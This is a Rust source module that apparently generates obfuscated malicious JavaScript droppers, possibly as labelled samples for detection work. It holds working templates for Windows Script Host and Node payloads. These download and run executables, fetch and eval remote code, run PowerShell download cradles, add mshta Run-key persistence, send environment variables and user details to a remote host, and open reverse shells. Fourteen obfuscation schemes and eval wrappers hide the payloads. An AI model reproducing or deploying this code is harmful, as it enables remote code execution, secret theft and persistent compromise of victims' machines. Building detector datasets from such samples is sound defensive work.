//! JavaScript: mailed scripts for the script host, and packages with a catch.

use super::super::{Dice, Truth, base64, codes, each, hex, put, quoted, reversed, xored, zlib};
use super::{listed, padded, parted, table};

/// An expression whose value is `text`, in any host.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let (one, two, three) = (dice.name(), dice.name(), dice.name());
    let names = [("ONE", one.as_str()), ("TWO", two.as_str()), ("THREE", three.as_str())];
    match dice.below(14) {
        0 => {
            // A turned list and a function that takes from it.
            let pieces = dice.pieces(text);
            let turns = 3 + dice.below(300);
            let mut list = quoted(&pieces, '\'');
            let count = list.len();
            list.rotate_right(turns % count);
            let first = dice.below(400);
            before.push_str(&put(
                "var @ONE@ = [@L@];\n(function (a, b) {\n  var c = function (d) {\n    while (--d) {\n      a['push'](a['shift']());\n    }\n  };\n  c(++b);\n}(@ONE@, @T@));\nvar @TWO@ = function (a, b) {\n  a = a - @F@;\n  var c = @ONE@[a];\n  return c;\n};\n",
                &names,
            ).replace("@L@", &list.join(", ")).replace("@T@", &format!("0x{turns:x}")).replace("@F@", &format!("0x{first:x}")));
            let calls: Vec<String> =
                (0..count).map(|at| format!("{two}('0x{:x}')", at + first)).collect();
            calls.join(" + ")
        }
        1 => {
            // Every other letter.
            let coded = padded(dice, text, 1);
            before.push_str(&put(
                "function @ONE@(s) {\n  var r = '';\n  for (var i = 0; i < s.length; i++) {\n    if (i % 2 == 0) { r += s.charAt(i); }\n  }\n  return r;\n}\n",
                &names,
            ));
            format!("{one}('{coded}')")
        }
        2 => {
            let add = 3 + dice.below(90);
            let numbers = listed(text.bytes().map(|it| usize::from(it) + add), ", ");
            before.push_str(&put(
                "var @ONE@ = [@N@], @TWO@ = '';\nfor (var @THREE@ = 0; @THREE@ < @ONE@.length; @THREE@++) {\n  @TWO@ += String.fromCharCode(@ONE@[@THREE@] - @A@);\n}\n",
                &names,
            ).replace("@N@", &numbers).replace("@A@", &add.to_string()));
            two
        }
        3 => {
            let (letters, places) = table(dice, text, "");
            before.push_str(&format!("var {one} = '{letters}';\n"));
            let taken: Vec<String> = places
                .iter()
                .map(|at| {
                    if dice.chance(50) {
                        format!("{one}.charAt({at})")
                    } else {
                        format!("{one}.substr({at}, 1)")
                    }
                })
                .collect();
            format!("({})", taken.join(" + "))
        }
        4 => {
            let key = dice.key();
            before.push_str(&put(
                "var @ONE@ = function (h) {\n  var o = [], i = 0;\n  while (i < h.length) {\n    o.push(String.fromCharCode(parseInt(h.substr(i, 2), 16) ^ @K@));\n    i += 2;\n  }\n  return o.join('');\n};\n",
                &names,
            ).replace("@K@", &key.to_string()));
            format!("{one}('{}')", hex(&xored(text, key)))
        }
        5 => format!("unescape('{}')", each(text, "", |it| format!("%u00{it:02x}"))),
        6 => {
            // Turned, with a mark in between, taken out by an expression.
            let mark = dice.pick(&["{}", "<>", "~~", "@!"]).to_owned();
            let coded = reversed(&dice.littered(text, &mark));
            let mark = reversed(&mark);
            format!(
                "'{coded}'.replace(/{}/g, '').split('').reverse().join('')",
                mark.replace('{', "\\{").replace('}', "\\}")
            )
        }
        7 => {
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            let mut fields = Vec::new();
            let mut value = vec![String::new(); pieces.len()];
            for at in order {
                let field = dice.name();
                fields.push(format!("  {field}: function () {{ return '{}'; }}", pieces[at]));
                value[at] = format!("{one}['{field}']()");
            }
            before.push_str(&format!("var {one} = {{\n{}\n}};\n", fields.join(",\n")));
            format!("[{}].join('')", value.join(", "))
        }
        8 => {
            // A multiple of each letter's number.
            let numbers: Vec<String> =
                text.bytes().map(|it| format!("{}", usize::from(it) * 3)).collect();
            before.push_str(&put(
                "function @ONE@(a) {\n  var t = a.split('|'), r = '', k;\n  for (k in t) { r = r.concat(String['from' + 'CharCode'](t[k] / 3)); }\n  return r;\n}\n",
                &names,
            ));
            format!("{one}('{}')", numbers.join("|"))
        }
        9 => format!("String.fromCharCode.apply(null, [{}])", codes(text.bytes(), ", ")),
        10 => {
            let coded = each(text, "", |it| {
                if it % 2 == 0 { format!("\\x{it:02x}") } else { format!("\\u{it:04x}") }
            });
            format!("'{coded}'")
        }
        11 => {
            // A base64 reader of its own.
            before.push_str(&put(
                "function @ONE@(s) {\n  var k = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';\n  var b = 0, n = 0, o = '';\n  for (var i = 0; i < s.length; i++) {\n    var c = k.indexOf(s.charAt(i));\n    if (c < 0) { break; }\n    b = (b << 6) | c;\n    n += 6;\n    if (n >= 8) { n -= 8; o += String.fromCharCode((b >> n) & 255); b = b & ((1 << n) - 1); }\n  }\n  return o;\n}\n",
                &names,
            ));
            format!("{one}('{}')", base64(text.as_bytes()))
        }
        12 => {
            // A sum that grows with the place.
            let start = dice.below(20);
            let numbers =
                listed(text.bytes().enumerate().map(|(at, it)| usize::from(it) + at + start), ",");
            before.push_str(&put(
                "var @ONE@ = '@N@'.split(','), @TWO@ = [];\nvar @THREE@ = 0;\ndo {\n  @TWO@[@THREE@] = String.fromCharCode(Number(@ONE@[@THREE@]) - @THREE@ - @S@);\n} while (++@THREE@ < @ONE@.length);\n",
                &names,
            ).replace("@N@", &numbers).replace("@S@", &start.to_string()));
            format!("{two}.join('')")
        }
        _ => {
            // A switch that walks through the pieces.
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            let mut cases = String::new();
            for at in &order {
                cases.push_str(&format!(
                    "    case '{at}':\n      {two} += '{}';\n      continue;\n",
                    pieces[*at]
                ));
            }
            let way = listed(0..pieces.len(), "|");
            before.push_str(&put(
                "var @TWO@ = '', @ONE@ = '@W@'.split('|'), @THREE@ = 0;\nwhile (@THREE@ < @ONE@.length) {\n  switch (@ONE@[@THREE@++]) {\n@C@  }\n  break;\n}\n",
                &names,
            ).replace("@W@", &way).replace("@C@", &cases));
            two
        }
    }
}

fn noise(dice: &mut Dice) -> String {
    let name = dice.name();
    match dice.below(6) {
        0 => format!("var {name} = {};\n", dice.below(9999)),
        1 => format!("function {name}(a, b) {{ return a * {} + b; }}\n", 2 + dice.below(9)),
        2 => format!("// {name}\n"),
        3 => format!("var {name} = new Date().getTime() % {};\n", 2 + dice.below(90)),
        4 => format!("/*! {name} v{}.{} | MIT */\n", dice.below(9), dice.below(20)),
        _ => format!(
            "var {name} = ['{}', '{}'];\nfor (var i{name} = 0; i{name} < 10; i{name}++) {{ {name}.push(i{name}); }}\n",
            dice.name(),
            dice.name()
        ),
    }
}

/// A contact from the script host.
fn hosted(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let (name, file) = (dice.name(), dice.name());
    let body = match dice.below(8) {
        0 => {
            let url = truth.url(dice, &[".exe", ".dll"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "var {name} = new ActiveXObject('MSXML2.XMLHTTP');\n{name}.open('GET', {url}, false);\n{name}.send();\nif ({name}.status == 200) {{\n  var {file} = new ActiveXObject('ADODB.Stream');\n  {file}.Open(); {file}.Type = 1; {file}.Write({name}.ResponseBody); {file}.Position = 0;\n  {file}.SaveToFile('C:\\\\Users\\\\Public\\\\{file}.exe', 2); {file}.Close();\n  new ActiveXObject('WScript.Shell').Run('C:\\\\Users\\\\Public\\\\{file}.exe', 0, false);\n}}\n"
            )
        }
        1 => {
            // What comes back is run.
            let url = truth.url(dice, &[".php", ".aspx"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "var {name} = this['W' + 'Script'];\nvar {file} = {name}['Create' + 'Object']('MSXML2.ServerXMLHTTP');\n{file}['op' + 'en']('POST', {url}, false);\n{file}['se' + 'nd']('a=' + Math.random());\neval({file}['response' + 'Text']);\n"
            )
        }
        2 => {
            let url = truth.url(dice, &[".ps1", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "var {name} = new ActiveXObject('WScript.Shell');\n{name}.Run('powershell -w hidden -ep bypass -c \"IEX(New-Object Net.WebClient).DownloadString(\\'' + {url} + '\\')\"', 0);\n"
            )
        }
        3 => {
            // The first place that answers.
            let urls = [
                truth.url(dice, &[".php", ""]),
                truth.url(dice, &[".php", ""]),
                truth.url(dice, &[""]),
            ];
            let words: Vec<String> = urls.iter().map(|url| hide(dice, url, &mut before)).collect();
            format!(
                "var {name} = [{}];\nfor (var n = 0; n < {name}.length; n++) {{\n  try {{\n    var {file} = new ActiveXObject('WinHttp.WinHttpRequest.5.1');\n    {file}.Open('GET', {name}[n], false);\n    {file}.Send();\n    if ({file}.Status == 200) {{ eval({file}.ResponseText); break; }}\n  }} catch (e) {{ }}\n}}\n",
                words.join(", ")
            )
        }
        4 => {
            let url = truth.url(dice, &[".msi", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "var {name} = new ActiveXObject('WindowsInstaller.Installer');\n{name}.UILevel = 2;\n{name}.InstallProduct({url});\n"
            )
        }
        5 => {
            let url = truth.url(dice, &[".hta", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "var {name} = new ActiveXObject('WScript.Shell');\n{name}.RegWrite('HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\{file}', 'mshta ' + {url}, 'REG_SZ');\n"
            )
        }
        6 => {
            let url = truth.url(dice, &[".dll", ".dat"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "var {name} = 'cmd.exe /c curl.exe --output %TEMP%\\\\{file}.dll ' + {url} + ' && rundll32 %TEMP%\\\\{file}.dll,Start';\nnew ActiveXObject('Shell.Application').ShellExecute('cmd.exe', {name}.substr(8), '', 'open', 0);\n"
            )
        }
        _ => {
            let url = truth.url(dice, &[".sct", ""]);
            let url = hide(dice, &url, &mut before);
            format!("var {name} = GetObject('script:' + {url});\n")
        }
    };
    before + &body
}

/// A contact from Node.
fn served(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let (name, file) = (dice.name(), dice.name());
    let body = match dice.below(8) {
        0 => {
            let url = truth.url(dice, &[".js", ""]);
            let module = if url.starts_with("https") { "https" } else { "http" };
            let url = hide(dice, &url, &mut before);
            format!(
                "var {name} = require('{module}');\n{name}.get({url}, function (res) {{\n  var d = '';\n  res.on('data', function (c) {{ d += c; }});\n  res.on('end', function () {{ eval(d); }});\n}}).on('error', function () {{}});\n"
            )
        }
        1 => {
            // What was found in the environment is sent away.
            let url = dice.url(&["", ".php"]);
            truth.urls.insert(url.clone());
            let (base, path) = parted(&url);
            let (scheme, authority) = base.split_once("://").unwrap_or_default();
            let (host, port) = authority.split_once(':').unwrap_or((authority, ""));
            let port = if port.is_empty() { String::new() } else { format!(" port: {port},") };
            let host = hide(dice, host, &mut before);
            format!(
                "const os{file} = require('os'), {name} = require('{scheme}');\nconst d{file} = JSON.stringify({{ h: os{file}.hostname(), u: os{file}.userInfo().username, e: process.env }});\nconst r{file} = {name}.request({{ hostname: {host},{port} path: '{path}', method: 'POST', headers: {{ 'Content-Length': d{file}.length }} }});\nr{file}.on('error', () => {{}});\nr{file}.write(d{file});\nr{file}.end();\n"
            )
        }
        2 => {
            let url = truth.url(dice, &[".sh", ""]);
            let url = hide(dice, &url, &mut before);
            format!(
                "const {{ exec: {name} }} = require('child_process');\n{name}(`curl -s ${{{url}}} | bash`, () => {{}});\n"
            )
        }
        3 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, &mut before);
            format!(
                "(function () {{\n  var net = require('net'), cp = require('child_process');\n  var sh = cp.spawn('/bin/sh', []);\n  var {name} = new net.Socket();\n  {name}.connect({port}, {host}, function () {{\n    {name}.pipe(sh.stdin); sh.stdout.pipe({name}); sh.stderr.pipe({name});\n  }});\n}})();\n"
            )
        }
        4 => {
            let url = truth.url(dice, &["", ".json"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "const {name} = require('axios');\n{name}.post({url}, {{ ...process.env }}, {{ headers: {{ 'x-key': '{file}' }} }}).then(r => new Function('require', r.data)(require)).catch(() => {{}});\n"
            )
        }
        5 => {
            let url = truth.url(dice, &["", ".js"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "(async () => {{\n  const {name} = await fetch({url});\n  const t = await {name}.text();\n  (0, eval)(t);\n}})();\n"
            )
        }
        6 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, &mut before);
            format!(
                "const {name} = require('tls').connect({{ host: {host}, port: {port}, rejectUnauthorized: false }});\n{name}.on('data', c => {{\n  require('child_process').exec(c.toString(), (e, o) => {name}.write(o || ''));\n}});\n"
            )
        }
        _ => {
            let url = truth.url(dice, &[".exe", ".bin"]);
            let url = hide(dice, &url, &mut before);
            format!(
                "const {name} = require('child_process'), p{file} = require('path').join(require('os').tmpdir(), '{file}');\n{name}.execFileSync('curl', ['-L', '-s', '-o', p{file}, {url}]);\n{name}.spawn(p{file}, [], {{ detached: true, stdio: 'ignore' }}).unref();\n"
            )
        }
    };
    before + &body
}

fn wrap_hosted(dice: &mut Dice, script: &str) -> String {
    let name = dice.name();
    match dice.below(5) {
        0 => {
            let add = 1 + dice.below(99);
            let numbers = listed(script.bytes().map(|it| usize::from(it) + add), ",");
            format!(
                "var {name} = [{numbers}];\nvar s{name} = '';\nfor (var q = 0; q < {name}.length; q++) s{name} += String.fromCharCode({name}[q] - {add});\neval(s{name});\n"
            )
        }
        1 => format!("eval(unescape('{}'));\n", each(script, "", |it| format!("%{it:02X}"))),
        2 => {
            // Much that is never run around the little that is.
            let coded = super::lines(&reversed(&hex(script.as_bytes())), 40);
            let mut out = format!("var {name} = '';\n");
            for line in coded {
                out.push_str(&format!("{name} += '{line}';\n"));
                if dice.chance(20) {
                    out.push_str(&format!(
                        "function {}(a) {{ return a + {}; }}\n",
                        dice.name(),
                        dice.below(99)
                    ));
                }
            }
            out + &format!(
                "var t{name} = {name}.split('').reverse().join('').replace(/../g, function (h) {{ return String.fromCharCode(parseInt(h, 16)); }});\nnew Function(t{name})();\n"
            )
        }
        _ => script.to_owned(),
    }
}

fn wrap_served(dice: &mut Dice, script: &str) -> String {
    let name = dice.name();
    match dice.below(5) {
        0 => format!(
            "eval(Buffer.from('{}', 'base64').toString('utf8'));\n",
            base64(script.as_bytes())
        ),
        1 => format!(
            "eval(require('zlib').inflateSync(Buffer.from('{}', 'hex')).toString());\n",
            hex(&zlib(script.as_bytes()))
        ),
        2 => {
            let key = dice.key();
            format!(
                "const {name} = Buffer.from('{}', 'base64');\nfor (let i = 0; i < {name}.length; i++) {name}[i] ^= {key};\nmodule._compile({name}.toString(), __filename);\n",
                base64(&script.bytes().map(|it| it ^ key).collect::<Vec<_>>())
            )
        }
        _ => script.to_owned(),
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let in_host = dice.chance(55);
    let mut script = String::new();
    for _ in 0..1 + dice.below(2) {
        for _ in 0..dice.below(3) {
            script.push_str(&noise(dice));
        }
        let contact = if in_host { hosted(dice, truth) } else { served(dice, truth) };
        script.push_str(&contact);
    }
    if in_host { wrap_hosted(dice, &script) } else { wrap_served(dice, &script) }
}
